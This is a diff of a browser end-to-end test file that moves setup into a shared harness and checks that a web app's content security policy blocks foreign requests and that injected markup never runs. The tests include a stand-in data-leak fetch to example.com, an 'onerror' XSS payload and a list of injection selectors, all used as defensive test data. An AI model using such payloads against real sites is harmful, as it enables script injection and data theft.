@@ -4,37 +4,18 @@
 // or script show as text; a worker that throws or is killed fails only its own run while the
 // others finish a 10⁶-step run with bounded page memory.
 import assert from 'node:assert/strict';
-import { existsSync } from 'node:fs';
-import { createRequire } from 'node:module';
-import { dirname, join, resolve } from 'node:path';
-import { after, before, test } from 'node:test';
-import { fileURLToPath } from 'node:url';
-import { guardedContext, guardedPage, launchChromium, takeForeignRequests } from './guard.mjs';
+import { test } from 'node:test';
+import { guardedContext, guardedPage, takeForeignRequests } from './guard.mjs';
 import { baseState, linkOf } from './share-link.mjs';
-import { serveStatic } from './static-server.mjs';
+import { browserSuite } from './harness.mjs';
 
-const here = dirname(fileURLToPath(import.meta.url));
-const web = resolve(here, '../../web');
-const { chromium } = createRequire(join(web, 'package.json'))('playwright-core');
-const dist = process.env.E2E_DIST ?? join(web, 'dist');
-let server;
-let browser;
-
-before(async () => {
-  assert.ok(existsSync(join(dist, 'index.html')), `${dist} is missing: run "npm run build" in web/`);
-  server = await serveStatic(dist, '/app/');
-  // --expose-gc: memory is measured after a full collection, so garbage does not count.
-  browser = await launchChromium(chromium, ['--js-flags=--expose-gc']);
-});
-
-after(async () => {
-  await browser?.close();
-  await server?.close();
-});
+const suite = browserSuite({ prefix: '/app/', chromiumArgs: ['--js-flags=--expose-gc'] });
 
 /** Opens the page (optionally at a hash), collecting page errors, dialogs and CSP reports. */
 async function open(hash = '', { cores } = {}) {
-  const page = await guardedPage(browser, server.url, { viewport: { width: 1280, height: 900 } });
+  const page = await guardedPage(suite.browser, suite.server.url, {
+    viewport: { width: 1280, height: 900 },
+  });
   const problems = [];
   page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
   page.on('dialog', (d) => {
@@ -49,7 +30,7 @@ async function open(hash = '', { cores } = {}) {
     // More workers than this machine's cores would give, so runs land on different workers.
     if (cores) Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => cores });
   }, cores ?? 0);
-  await page.goto(`${server.url}${hash ? `#${hash}` : ''}`);
+  await page.goto(`${suite.server.url}${hash ? `#${hash}` : ''}`);
   await page.getByRole('button', { name: /Start/ }).waitFor();
   return { page, problems };
 }
@@ -60,25 +41,27 @@ test('the CSP is in force: foreign fetch, image and script are blocked, inline s
   assert.match(csp, /default-src 'self'/);
   assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
   assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'|https?:|\*/);
-  const result = await page.evaluate(async () => {
-    let fetchBlocked = false;
-    try {
-      await fetch('https://example.com/leak?data=1');
-    } catch {
-      fetchBlocked = true;
-    }
-    const img = document.createElement('img');
-    img.src = 'https://example.com/pixel.png';
-    document.body.append(img);
-    const foreignScript = document.createElement('script');
-    foreignScript.src = 'https://example.com/tracker.js';
-    document.body.append(foreignScript);
-    const inline = document.createElement('script');
-    inline.textContent = 'window.__inlineRan = true';
-    document.body.append(inline);
-    await new Promise((r) => setTimeout(r, 800));
-    return { fetchBlocked, inlineRan: window.__inlineRan === true, violations: window.__csp };
-  }).catch((error) => ({ error: String(error) }));
+  const result = await page
+    .evaluate(async () => {
+      let fetchBlocked = false;
+      try {
+        await fetch('https://example.com/leak?data=1');
+      } catch {
+        fetchBlocked = true;
+      }
+      const img = document.createElement('img');
+      img.src = 'https://example.com/pixel.png';
+      document.body.append(img);
+      const foreignScript = document.createElement('script');
+      foreignScript.src = 'https://example.com/tracker.js';
+      document.body.append(foreignScript);
+      const inline = document.createElement('script');
+      inline.textContent = 'window.__inlineRan = true';
+      document.body.append(inline);
+      await new Promise((r) => setTimeout(r, 800));
+      return { fetchBlocked, inlineRan: window.__inlineRan === true, violations: window.__csp };
+    })
+    .catch((error) => ({ error: String(error) }));
   assert.equal(result.error, undefined, result.error);
   assert.equal(result.fetchBlocked, true, 'the foreign fetch was blocked');
   assert.equal(result.inlineRan, false, 'injected inline script did not run');
@@ -96,9 +79,9 @@ test('the CSP is in force: foreign fetch, image and script are blocked, inline s
 test('the origin guard catches a request that leaves the origin', async () => {
   // Without the CSP (bypassed here on purpose) a foreign fetch reaches the network layer,
   // where the guard aborts and records it: the check that every e2e test relies on can fail.
-  const context = await guardedContext(browser, server.url, { bypassCSP: true });
+  const context = await guardedContext(suite.browser, suite.server.url, { bypassCSP: true });
   const page = await context.newPage();
-  await page.goto(server.url);
+  await page.goto(suite.server.url);
   const failed = await page.evaluate(() =>
     fetch('https://example.com/leak').then(
       () => false,
@@ -146,7 +129,10 @@ test('run names carrying markup or script are shown as text, never run', async (
     const { page, problems } = await open(linkOf(state));
     await page.getByRole('button', { name: /Start/ }).click();
     await page.waitForFunction(
-      (n) => [...document.querySelectorAll('.comparison .status')].filter((c) => /done/.test(c.textContent ?? '')).length === n,
+      (n) =>
+        [...document.querySelectorAll('.comparison .status')].filter((c) =>
+          /done/.test(c.textContent ?? ''),
+        ).length === n,
       payloads.length,
       { timeout: 60_000 },
     );
@@ -154,16 +140,24 @@ test('run names carrying markup or script are shown as text, never run', async (
       xss: window.__xss,
       names: [...document.querySelectorAll('input.run-name')].map((i) => i.value),
       table: document.querySelector('.comparison')?.textContent ?? '',
-      injected: document.querySelectorAll('#injected, iframe, svg[onload], img[onerror], [onerror], [onload], body style, a[href^="javascript"]').length,
+      injected: document.querySelectorAll(
+        '#injected, iframe, svg[onload], img[onerror], [onerror], [onload], body style, a[href^="javascript"]',
+      ).length,
       scripts: [...document.scripts].map((s) => s.src || 'inline'),
     }));
     assert.equal(seen.xss, undefined, 'a payload ran');
     assert.equal(seen.injected, 0, 'a payload added an element');
-    assert.ok(seen.scripts.every((s) => s.startsWith(server.url)), `scripts: ${seen.scripts}`);
+    assert.ok(
+      seen.scripts.every((s) => s.startsWith(suite.server.url)),
+      `scripts: ${seen.scripts}`,
+    );
     assert.deepEqual(seen.names, payloads, 'names shown literally in the run cards');
     for (const payload of payloads) {
       const printable = payload.replaceAll('\u0000', '');
-      assert.ok(seen.table.includes(printable.slice(0, 20)) || seen.table.includes(payload.slice(0, 20)), `table shows ${payload}`);
+      assert.ok(
+        seen.table.includes(printable.slice(0, 20)) || seen.table.includes(payload.slice(0, 20)),
+        `table shows ${payload}`,
+      );
     }
     assert.deepEqual(problems, []);
     await page.close();
@@ -183,7 +177,12 @@ test('a corrupt saved history is skipped with a message, never a blank page', as
           const tx = r.result.transaction('history', 'readwrite');
           const store = tx.objectStore('history');
           store.put({ id: 'junk1', kind: 'runs', name: 42 });
-          store.put({ id: 'junk2', kind: 'sweep', state: '<img src=x onerror="window.__xss=1">', results: 'x' });
+          store.put({
+            id: 'junk2',
+            kind: 'sweep',
+            state: '<img src=x onerror="window.__xss=1">',
+            results: 'x',
+          });
           store.put({ id: 'junk3' });
           tx.oncomplete = () => {
             r.result.close();
@@ -195,13 +194,20 @@ test('a corrupt saved history is skipped with a message, never a blank page', as
   );
   await page.reload();
   await page.getByRole('button', { name: /Start/ }).waitFor();
-  await page.waitForFunction(() => /3 saved entries were unreadable/.test(document.body.textContent ?? ''), null, {
-    timeout: 20_000,
-  });
+  await page.waitForFunction(
+    () => /3 saved entries were unreadable/.test(document.body.textContent ?? ''),
+    null,
+    {
+      timeout: 20_000,
+    },
+  );
   // The rest of the page works: the default comparison trains to the end.
   await page.getByRole('button', { name: /Start/ }).click();
   await page.waitForFunction(
-    () => [...document.querySelectorAll('.comparison .status')].some((c) => /done/.test(c.textContent ?? '')),
+    () =>
+      [...document.querySelectorAll('.comparison .status')].some((c) =>
+        /done/.test(c.textContent ?? ''),
+      ),
     null,
     { timeout: 60_000 },
   );
@@ -225,15 +231,22 @@ test('a worker that throws or is killed fails its own run; the others finish a 1
   // Start, and fail two runs' workers at once (a 10⁶-step Rosenbrock run takes only seconds):
   // four workers for "5 cores", so each run has a worker of its own.
   const failed = await page.evaluate(() => {
-    const start = [...document.querySelectorAll('button')].find((b) => /Start/.test(b.textContent ?? ''));
+    const start = [...document.querySelectorAll('button')].find((b) =>
+      /Start/.test(b.textContent ?? ''),
+    );
     start.click();
-    return [window.__descentTest.failWorker('r2', 'kill'), window.__descentTest.failWorker('r3', 'throw')];
+    return [
+      window.__descentTest.failWorker('r2', 'kill'),
+      window.__descentTest.failWorker('r3', 'throw'),
+    ];
   });
   assert.deepEqual(failed, [true, true]);
   const deadline = Date.now() + 240_000;
   let statuses;
   for (;;) {
-    statuses = await page.$$eval('.comparison .status', (cells) => cells.map((c) => c.textContent ?? ''));
+    statuses = await page.$$eval('.comparison .status', (cells) =>
+      cells.map((c) => c.textContent ?? ''),
+    );
     if (/done/.test(statuses[0] ?? '') || Date.now() > deadline) break;
     await page.waitForTimeout(500);
   }
@@ -246,7 +259,9 @@ test('a worker that throws or is killed fails its own run; the others finish a 1
   // with 21 columns and the run history: +65 MB thinned).
   const heapAfter = await usedHeap(page);
   const grown = Math.round((heapAfter - heapBefore) / 1e6);
-  console.log(`     JS heap after a full collection: ${Math.round(heapBefore / 1e6)} MB before, ${Math.round(heapAfter / 1e6)} MB after`);
+  console.log(
+    `     JS heap after a full collection: ${Math.round(heapBefore / 1e6)} MB before, ${Math.round(heapAfter / 1e6)} MB after`,
+  );
   assert.ok(grown < 110, `the page's heap grew by ${grown} MB`);
   assert.deepEqual(problems, []);
   await page.close();
